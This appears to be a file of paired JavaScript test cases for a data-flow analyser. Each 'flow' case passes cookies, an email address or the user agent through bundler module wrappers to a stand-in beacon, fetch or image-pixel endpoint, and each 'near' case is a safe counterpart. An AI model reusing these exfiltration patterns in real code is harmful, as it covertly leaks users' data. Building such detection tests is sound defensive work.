//# webpack-module-of-one-parameter
// flow: identifier > wop.mo13.example via beacon
(() => {
  var table = {
    10: (module) => { module.exports = function (v) { navigator.sendBeacon('https://wop.mo13.example/b', v); }; },
    20: (module) => { module.exports = function (v) { return String(v).length; }; },
    30: (module, exports, require) => { var send = require(10), count = require(20); send(document.cookie); count('boot'); },
  };
  var cache = {};
  function run(id) {
    var known = cache[id];
    if (known !== undefined) return known.exports;
    var module = (cache[id] = { exports: {} });
    table[id](module, module.exports, run);
    return module.exports;
  }
  run(30);
})();

//# near-webpack-module-of-one-parameter
// no flow
// why: the module that sends is given a constant, the one that counts the cookie
(() => {
  var table = {
    10: (module) => { module.exports = function (v) { navigator.sendBeacon('https://nop.mo13.example/b', v); }; },
    20: (module) => { module.exports = function (v) { return String(v).length; }; },
    30: (module, exports, require) => { var send = require(10), count = require(20); send('boot'); count(document.cookie); },
  };
  var cache = {};
  function run(id) {
    var known = cache[id];
    if (known !== undefined) return known.exports;
    var module = (cache[id] = { exports: {} });
    table[id](module, module.exports, run);
    return module.exports;
  }
  run(30);
})();

//# webpack-entry-requires-twice
// flow: device > wet.mo13.example via fetch
(() => {
  var modules = {
    1: function (module, exports, require) { exports.ship = function (v) { fetch('https://wet.mo13.example/s', { method: 'POST', body: v }); }; require(2); },
    2: function (module, exports, require) { exports.ship = function (v) { document.title = v; }; },
  };
  var cache = {};
  function require(id) {
    var module = cache[id] || (cache[id] = { exports: {} });
    modules[id].call(module.exports, module, module.exports, require);
    return module.exports;
  }
  var loud = require(1), shown = require(2);
  shown.ship('ready');
  loud.ship(navigator.userAgent);
})();

//# near-webpack-entry-requires-twice
// no flow
// why: both modules export ship; the user agent goes to the one that shows it
(() => {
  var modules = {
    1: function (module, exports, require) { exports.ship = function (v) { fetch('https://net.mo13.example/s', { method: 'POST', body: v }); }; require(2); },
    2: function (module, exports, require) { exports.ship = function (v) { document.title = v; }; },
  };
  var cache = {};
  function require(id) {
    var module = cache[id] || (cache[id] = { exports: {} });
    modules[id].call(module.exports, module, module.exports, require);
    return module.exports;
  }
  var loud = require(1), shown = require(2);
  loud.ship('ready');
  shown.ship(navigator.userAgent);
})();

//# amd-factory-applied-to-a-list
// flow: email > afl.mo13.example via fetch
(() => {
  var table = {
    5: (module, exports, require) => {
      var deps, made;
      deps = [exports, require(6), require(7)], made = function (out, net, log) {
        'use strict';
        Object.defineProperty(out, '__esModule', { value: true });
        out.subscribe = function (address) { log.note('subscribe'); net.post(address); };
      }.apply(exports, deps), void 0 === made || (module.exports = made);
    },
    6: (module, exports, require) => { exports.post = function (v) { fetch('https://afl.mo13.example/p', { method: 'POST', body: v }); }; },
    7: (module, exports, require) => { exports.note = function (v) { console.log(v); }; require(6).post('loaded'); },
  };
  var cache = {};
  function load(id) {
    var known = cache[id];
    if (known !== undefined) return known.exports;
    var module = (cache[id] = { exports: {} });
    table[id](module, module.exports, load);
    return module.exports;
  }
  load(5).subscribe(document.querySelector('input[type=email]').value);
})();

//# near-amd-factory-applied-to-a-list
// no flow
// why: the address goes to the third of the list, which logs it
(() => {
  var table = {
    5: (module, exports, require) => {
      var deps, made;
      deps = [exports, require(6), require(7)], made = function (out, net, log) {
        'use strict';
        Object.defineProperty(out, '__esModule', { value: true });
        out.subscribe = function (address) { log.note(address); net.post('subscribe'); };
      }.apply(exports, deps), void 0 === made || (module.exports = made);
    },
    6: (module, exports, require) => { exports.post = function (v) { fetch('https://naf.mo13.example/p', { method: 'POST', body: v }); }; },
    7: (module, exports, require) => { exports.note = function (v) { console.log(v); }; require(6).post('loaded'); },
  };
  var cache = {};
  function load(id) {
    var known = cache[id];
    if (known !== undefined) return known.exports;
    var module = (cache[id] = { exports: {} });
    table[id](module, module.exports, load);
    return module.exports;
  }
  load(5).subscribe(document.querySelector('input[type=email]').value);
})();

//# interop-default-of-common-js
// flow: identifier > idc.mo13.example via fetch
(() => {
  var table = {
    1: (module) => { module.exports = function (m) { return m && m.__esModule ? m : { default: m }; }; },
    2: (module) => { module.exports = function (v) { return fetch('https://idc.mo13.example/l?u=' + encodeURIComponent(v)); }; },
    3: (module, exports) => { Object.defineProperty(exports, '__esModule', { value: true }); exports.default = function (v) { document.title = v; }; },
    4: (module, exports, require) => {
      var wrap = require(1), send = wrap(require(2)), show = wrap(require(3));
      (0, show.default)('ready');
      (0, send.default)(document.cookie);
    },
  };
  var cache = {};
  function run(id) {
    var known = cache[id];
    if (known !== undefined) return known.exports;
    var module = (cache[id] = { exports: {} });
    table[id](module, module.exports, run);
    return module.exports;
  }
  run(4);
})();

//# near-interop-default-of-common-js
// no flow
// why: the same function wraps both modules; the cookie is given to the one that shows it
(() => {
  var table = {
    1: (module) => { module.exports = function (m) { return m && m.__esModule ? m : { default: m }; }; },
    2: (module) => { module.exports = function (v) { return fetch('https://nic.mo13.example/l?u=' + encodeURIComponent(v)); }; },
    3: (module, exports) => { Object.defineProperty(exports, '__esModule', { value: true }); exports.default = function (v) { document.title = v; }; },
    4: (module, exports, require) => {
      var wrap = require(1), send = wrap(require(2)), show = wrap(require(3));
      (0, show.default)(document.cookie);
      (0, send.default)('ready');
    },
  };
  var cache = {};
  function run(id) {
    var known = cache[id];
    if (known !== undefined) return known.exports;
    var module = (cache[id] = { exports: {} });
    table[id](module, module.exports, run);
    return module.exports;
  }
  run(4);
})();

//# interop-default-typescript
// flow: identifier > idt.mo13.example via image
var __importDefault = (this && this.__importDefault) || function (mod) { return (mod && mod.__esModule) ? mod : { 'default': mod }; };
const pixel = { fire(v) { new Image().src = 'https://idt.mo13.example/p?v=' + v; } };
const other = { __esModule: true, default: { fire(v) { document.title = v; } } };
const pixel_1 = __importDefault(pixel);
const other_1 = __importDefault(other);
other_1.default.fire('ready');
pixel_1.default.fire(document.cookie);

//# near-interop-default-typescript
// no flow
var __importDefault = (this && this.__importDefault) || function (mod) { return (mod && mod.__esModule) ? mod : { 'default': mod }; };
const pixel = { fire(v) { new Image().src = 'https://nit.mo13.example/p?v=' + v; } };
const other = { __esModule: true, default: { fire(v) { document.title = v; } } };
const pixel_1 = __importDefault(pixel);
const other_1 = __importDefault(other);
other_1.default.fire(document.cookie);
pixel_1.default.fire('ready');
